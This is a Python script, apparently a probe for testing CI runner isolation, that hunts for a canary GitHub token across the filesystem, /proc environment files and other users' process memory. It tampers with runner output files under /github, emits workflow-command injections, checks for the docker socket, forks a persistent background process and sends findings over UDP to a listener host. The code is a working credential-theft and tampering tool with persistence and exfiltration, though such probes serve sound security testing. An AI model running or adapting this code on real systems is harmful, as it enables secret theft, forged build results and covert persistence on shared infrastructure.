"""Look for tokens wherever this account gets, and try to change what the runner reads.

Prints ``LOOT place`` for each token, ``WROTE file`` for each file changed, and at last how much it
could look at. What it leaves behind goes on looking at all processes; where LISTENER names a host
and a port it sends the same there, and ``LOOKED`` each time it is through.
"""

from __future__ import annotations

import base64
import os
import socket
import time
from collections.abc import Iterator
from pathlib import Path

# In two parts: this file must not be what it finds.
TOKEN = b"ghs_" + b"5EcReT"
PLACES = ("/github", "/tmp", "/dev/shm", "/home", "/root", "/run", "/etc", "/var/lib/postgresql")
LARGEST = 1 << 22
COMMANDS = (
    "::set-output name=result::owned",
    "::add-mask::Proved",
    "::stop-commands::owned",
    "::error::owned",
)


def forms(secret: bytes) -> tuple[bytes, ...]:
    """A secret as it may be written: as it is, in base64 behind anything, in percents, in hex."""
    found = [secret, secret.hex().encode()]
    for behind in range(3):
        # The characters at both ends depend on the neighbours too.
        first, last = -(-behind * 8 // 6), (behind + len(secret)) * 8 // 6
        text = base64.b64encode(b"?" * behind + secret)[first:last]
        found += [text, text.translate(bytes.maketrans(b"+/", b"-_"))]
    percents = "".join(f"%{each:02x}" for each in secret)
    return (*dict.fromkeys(found), percents.encode(), percents.upper().encode())


FORMS = forms(TOKEN)


def found(content: bytes) -> bool:
    """Whether there is a token in a content, however it is written."""
    return any(form in content for form in FORMS)


def files() -> Iterator[Path]:
    """Every file that may hold a secret."""
    for place in (*PLACES, str(Path.home()), str(Path.cwd())):
        for folder, _, names in os.walk(place):
            yield from (Path(folder, name) for name in names)
    for process in Path("/proc").glob("[0-9]*"):
        yield from (process / name for name in ("environ", "cmdline"))
        for linked in ("root/github", "cwd"):
            for folder, _, names in os.walk(process / linked):
                yield from (Path(folder, name) for name in names)


def memory() -> Iterator[str]:
    """Processes whose memory can be read and holds a token; of other accounts, for our own look."""
    for process in Path("/proc").glob("[0-9]*"):
        try:
            if process.stat().st_uid == os.getuid():
                continue
            with (process / "mem").open("rb") as opened:
                for line in (process / "maps").read_text().splitlines():
                    start, _, end = line.split(" ")[0].partition("-")
                    opened.seek(int(start, 16))
                    if found(opened.read(min(int(end, 16) - int(start, 16), LARGEST))):
                        yield f"{process}/mem {line}"
        except OSError:
            continue


def stay() -> None:
    """Leave a process behind that goes on trying when the run is over."""
    if os.fork():
        return
    os.setsid()
    for number in range(3):
        os.close(number)
    os.nice(19)
    until = time.monotonic() + 60
    while time.monotonic() < until:
        report()
        for file in Path("/github/file_commands").glob("*"):
            try:
                with file.open("ab") as opened:
                    opened.write(b"result=owned\n")
            except OSError:
                continue
        time.sleep(0.01)
    os._exit(0)


def report() -> None:
    """Look at all processes once more, and say so where somebody listens."""
    host, _, port = os.environ.get("LISTENER", "").rpartition(":")
    if not port:
        return
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as mouth:
        for process in Path("/proc").glob("[0-9]*"):
            for name in ("environ", "cmdline"):
                try:
                    if found((process / name).read_bytes()):
                        mouth.sendto(f"LOOT {process}/{name}".encode(), (host, int(port)))
                except OSError:
                    continue
        mouth.sendto(b"LOOKED", (host, int(port)))


def main() -> None:
    """Look, try, tell."""
    looked = 0
    for file in files():
        try:
            content = (
                b"" if not file.is_file() or file.stat().st_size > LARGEST else (file.read_bytes())
            )
        except OSError:
            continue
        looked += 1
        if found(content):
            print("LOOT", file)
    for place in memory():
        print("LOOT", place)
    for file in Path("/github").rglob("*"):
        try:
            with file.open("ab") as opened:
                opened.write(b"result=owned\n")
            print("WROTE", file)
        except OSError:
            continue
    for name in ("/var/run/docker.sock", "/run/docker.sock"):
        try:
            with socket.socket(socket.AF_UNIX) as engine:
                engine.connect(name)
            print("LOOT", name)
        except OSError:
            continue
    stay()
    tokens = [name for name in os.environ if "TOKEN" in name]
    print("LOOT" if tokens else "No variable:", tokens)
    print("\n".join(COMMANDS))
    print(f"LOOKED at {looked} files as {os.getuid()}:{os.getgid()} with {os.getgroups()}")


if __name__ == "__main__":
    main()
